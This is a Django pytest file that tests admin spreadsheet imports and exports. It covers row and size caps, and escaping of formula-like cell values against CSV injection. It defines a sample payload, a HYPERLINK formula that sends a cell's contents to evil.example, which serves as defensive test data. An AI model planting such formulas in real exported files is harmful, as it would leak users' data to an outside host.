"""The admin's spreadsheets: imports small enough to finish within a request, exports whose text is safe to open."""

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from devices.models import Device, Location
from devices.tests.factories import DeviceFactory, LocationFactory, RouteFactory
from devices.tests.test_imports import (
    CSV_FORMAT,
    XLSX_FORMAT,
    csv_file,
    export,
    exported_rows,
    import_rows,
    preview_import,
    xlsx_file,
)

pytestmark = pytest.mark.django_db

LOCATION_HEADER = ["name", "address", "venue_type", "latitude", "longitude"]


def location_rows(count):
    return [LOCATION_HEADER, *([f"Site {n}", "1 Main St", "office", "41.5", "-87.5"] for n in range(count))]


def import_file_errors(preview):
    return preview.context["form"].errors.get("import_file", [])


def test_the_caps_are_5000_rows_and_2_mib():
    assert (settings.ADMIN_IMPORT_MAX_ROWS, settings.ADMIN_IMPORT_MAX_BYTES) == (5_000, 2 * 1024 * 1024)


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_a_file_with_more_rows_than_the_cap_is_refused_before_importing(admin_client, settings, file_format):
    settings.ADMIN_IMPORT_MAX_ROWS = 3
    rows = location_rows(4)
    upload = csv_file(rows) if file_format == CSV_FORMAT else xlsx_file(rows)

    preview = preview_import(admin_client, Location, upload, file_format)

    assert preview.status_code == 200
    assert "confirm_form" not in preview.context and "result" not in preview.context
    (error,) = import_file_errors(preview)
    assert error.startswith("This file has 4 rows; the admin imports at most 3 rows a file: split a larger file")
    assert "POST /api/sales/" in error
    assert not Location.objects.exists()


def test_a_file_at_the_row_cap_imports(admin_client, settings):
    settings.ADMIN_IMPORT_MAX_ROWS = 3

    import_rows(admin_client, Location, location_rows(3))

    assert Location.objects.count() == 3


def test_a_20000_row_file_is_refused_by_the_default_cap(admin_client):
    preview = preview_import(admin_client, Location, csv_file(location_rows(20_000)))

    (error,) = import_file_errors(preview)
    assert error.startswith("This file has 20,000 rows; the admin imports at most 5,000 rows a file")
    assert not Location.objects.exists()


def test_a_file_larger_than_the_byte_cap_is_refused_unread(admin_client, settings):
    settings.ADMIN_IMPORT_MAX_BYTES = 1024
    upload = SimpleUploadedFile("big.csv", b"name\n" + b"x" * 2000, content_type="text/csv")

    (error,) = import_file_errors(preview_import(admin_client, Location, upload))

    assert error.startswith("This file is 2.0\xa0KB; the admin imports files of at most 1.0\xa0KB: split")


def test_the_import_page_states_the_caps(admin_client, admin_url):
    page = admin_client.get(admin_url(Location, "import"))

    assert "At most 5,000 rows and 2.0\xa0MB" in page.content.decode()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_admin_export_writes_formula_lookalikes_as_text_and_numbers_as_numbers(admin_client, file_format):
    LocationFactory(name=FORMULA, address="@SUM(1+1)", latitude="-41.500000", longitude="-87.500000")
    DeviceFactory(asset="-A1", location=Location.objects.get(), route=RouteFactory(number="+7"))

    locations = exported_rows(export(admin_client, Location, file_format), file_format)
    devices = exported_rows(export(admin_client, Device, file_format), file_format)

    assert locations[1][:2] == ["'" + FORMULA, "'@SUM(1+1)"]
    assert [str(value) for value in locations[1][3:]] == (
        ["-41.500000", "-87.500000"] if file_format == CSV_FORMAT else ["-41.5", "-87.5"]
    )
    assert (devices[1][0], devices[1][5], devices[1][6]) == ("'-A1", "'" + FORMULA, "'+7")


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_admin_export_drops_control_characters_xlsx_cannot_hold(admin_client, file_format):
    LocationFactory(name="Hall\x0bB", address="Dock\x0c 2")

    response = export(admin_client, Location, file_format)

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert exported_rows(response, file_format)[1][:2] == ["HallB", "Dock 2"]


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_an_exported_file_imports_back_unchanged(admin_client, file_format):
    LocationFactory(name=FORMULA, address="-1 Main St")
    rows = exported_rows(export(admin_client, Location, file_format), file_format)
    assert rows[1][:2] == ["'" + FORMULA, "'-1 Main St"]

    import_rows(admin_client, Location, rows, file_format)

    assert list(Location.objects.values_list("name", "address")) == [(FORMULA, "-1 Main St")]
